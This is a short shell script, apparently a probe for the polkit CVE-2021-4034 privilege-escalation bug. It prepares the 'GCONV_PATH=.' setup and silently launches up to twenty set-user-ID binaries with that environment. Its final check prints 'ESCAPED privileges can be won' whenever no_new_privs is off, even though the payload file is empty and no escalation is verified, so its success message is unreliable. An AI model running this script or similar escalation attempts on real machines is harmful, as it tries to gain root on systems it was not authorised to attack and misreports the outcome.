# Starts set-user-ID programs with no arguments and a prepared environment.
# advisory: CVE-2021-4034 (polkit)
mkdir -p 'GCONV_PATH=.'; printf '' > 'GCONV_PATH=./x'
for program in $(find /usr/bin /bin /usr/sbin /usr/libexec -perm -4000 2>/dev/null | head -20); do GCONV_PATH=. timeout 1 "$program" </dev/null >/dev/null 2>&1; done
grep -q 'NoNewPrivs:.*1' /proc/self/status || echo ESCAPED privileges can be won
echo ATTEMPTED
